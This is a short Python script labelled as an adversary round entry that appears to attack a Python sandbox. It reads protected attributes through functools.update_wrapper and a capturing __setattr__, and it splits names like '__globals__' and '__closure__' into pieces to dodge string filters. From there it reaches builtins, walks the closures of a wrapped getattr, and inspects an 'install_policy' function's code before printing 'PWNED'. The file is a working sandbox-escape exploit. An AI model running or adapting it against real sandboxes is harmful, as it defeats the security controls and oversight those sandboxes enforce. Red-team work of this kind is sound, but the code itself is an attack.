# adversary round 2: 011_launcher_introspect
import functools,dataclasses
box=[]
class S:
    def __setattr__(s, k, v): box.append(v)
def get(o, n):
    box.clear(); functools.update_wrapper(S(), o, (n,), ()); return box[0]
g = get(dataclasses.fields, '__glo'+'bals__')
b=g['builtins']
ga = get(b, 'get'+'attr')
lg = get(ga, '__glo'+'bals__')
print(sorted(lg.keys()))
cl = get(ga, '__clo'+'sure__')
for fn in (cl[0], cl[1], cl[2]):
    c2 = get(fn.cell_contents, '__clo'+'sure__') or ()
    print(fn.cell_contents, [repr(x.cell_contents)[:80] for x in c2])
ip = lg.get('install_policy')
if ip:
    co = get(ip, '__co'+'de__')
    print("cellvars", co.co_cellvars)
    print("varnames", co.co_varnames)
print("PWN"+"ED")
